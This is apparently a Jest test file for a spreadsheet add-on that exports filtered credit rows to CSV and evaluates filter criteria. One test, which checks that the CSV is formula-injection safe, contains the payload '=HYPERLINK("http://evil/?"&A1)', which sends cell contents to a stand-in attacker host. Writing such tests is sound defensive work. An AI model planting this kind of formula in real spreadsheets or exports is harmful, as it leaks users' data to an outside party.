import { downloadFilteredRows } from '../../addon/server/download';
import { shownRows, type ColumnCriteria } from '../../addon/server/visible-rows';
import { CREDIT_COLUMNS } from '../../core/sheet-contract';
import { makeCredits, setUpDesk, type Desk } from './fixtures';

let desk: Desk;
afterEach(() => desk?.fake.uninstall());

const col = (header: string) => CREDIT_COLUMNS.findIndex((c) => c.header === header) + 1;
const dataLines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n')
    .slice(1);

function filterOn(
  d: Desk,
  build: (b: ReturnType<typeof SpreadsheetApp.newFilterCriteria>) => unknown,
  header: string,
) {
  const filter = d.credits.getDataRange().createFilter();
  filter.setColumnFilterCriteria(
    col(header),
    (build(SpreadsheetApp.newFilterCriteria()) as { build(): never }).build(),
  );
}

describe('downloadFilteredRows', () => {
  test('without a filter every credit is exported', () => {
    desk = setUpDesk(makeCredits(4));
    const file = downloadFilteredRows('csv');
    expect(file).toMatchObject({ mimeType: 'text/csv', base64: false, rows: 4 });
    expect(file.filename).toMatch(/^Credits - \d{4}-\d{2}-\d{2}\.csv$/);
    expect(dataLines(file.content)).toHaveLength(4);
  });

  test('rows hidden by the filter are left out (hidden values), and the file name says how it was filtered', () => {
    desk = setUpDesk(
      makeCredits(4, (i) =>
        i < 3
          ? { status: 'ASSIGNED', allocation: 'customer 100%', distributorKeeps: 0, ruleId: 'manual' }
          : {},
      ),
    );
    filterOn(desk, (b) => b.setHiddenValues(['PENDING_ASSIGN']), 'Status');
    expect([2, 3, 4, 5].map((r) => desk.credits.isRowHiddenByFilter(r))).toEqual([false, false, false, true]);
    const file = downloadFilteredRows('csv');
    expect(file.rows).toBe(3);
    expect(dataLines(file.content).every((l) => l.includes('ASSIGNED'))).toBe(true);
    expect(file.filename).toMatch(/^Credits - Status without PENDING_ASSIGN - /);
  });

  test('text and number conditions are evaluated without a call per row', () => {
    desk = setUpDesk(makeCredits(40));
    filterOn(desk, (b) => b.whenNumberGreaterThan(100.3), 'Amount');
    desk.fake.log.reset();
    const file = downloadFilteredRows('csv');
    expect(file.rows).toBe(9); // 100.31 … 100.39
    expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(0);
  });

  test('criteria it cannot evaluate fall back to asking the sheet row by row', () => {
    desk = setUpDesk(makeCredits(4));
    filterOn(desk, (b) => b.whenFormulaSatisfied('=ISEVEN(ROW())'), 'Amount');
    const { FakeFilterCriteria } = jest.requireActual('../../emulators/spreadsheet-app');
    FakeFilterCriteria.formulaHides = (v: unknown) => v === 100.01 || v === 100.03;
    try {
      const file = downloadFilteredRows('csv');
      expect(file.rows).toBe(2);
      expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(4); // one per data row
    } finally {
      FakeFilterCriteria.formulaHides = null;
    }
  });

  test('the CSV is formula-injection safe', () => {
    desk = setUpDesk(makeCredits(1, () => ({ description: '=HYPERLINK("http://evil/?"&A1)' })));
    desk.credits._rows[1][col('Description') - 1] = '=HYPERLINK("http://evil/?"&A1)';
    const line = dataLines(downloadFilteredRows('csv').content)[0];
    expect(line).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`);
  });

  test('XLSX is refused with a clear message', () => {
    desk = setUpDesk(makeCredits(1));
    expect(() => downloadFilteredRows('xlsx')).toThrow(/Choose CSV/);
  });
});

describe('shownRows (pure filter evaluation)', () => {
  const values = [['h'], ['Apple'], ['banana'], [''], [12]];
  const display = values.map((r) => r.map(String));
  const spec = (c: Partial<ColumnCriteria>) => ({
    row: 1,
    numRows: 5,
    columns: [{ col: 1, hiddenValues: null, visibleValues: null, type: null, args: [], ...c }],
  });

  test.each([
    [{ type: 'TEXT_CONTAINS', args: ['AN'] }, [true, false, true, false, false]],
    [{ type: 'TEXT_STARTS_WITH', args: ['app'] }, [true, true, false, false, false]],
    [{ type: 'CELL_EMPTY' }, [true, false, false, true, false]],
    [{ type: 'NUMBER_LESS_THAN', args: [20] }, [true, false, false, false, true]],
    [{ visibleValues: ['Apple', '12'] }, [true, true, false, false, true]],
  ])('%j', (c, expected) => {
    expect(shownRows(spec(c as Partial<ColumnCriteria>), values, display)).toEqual(expected);
  });

  test('unsupported criteria → null (ask the sheet)', () => {
    expect(shownRows(spec({ type: 'DATE_BEFORE', args: [] }), values, display)).toBeNull();
  });
});
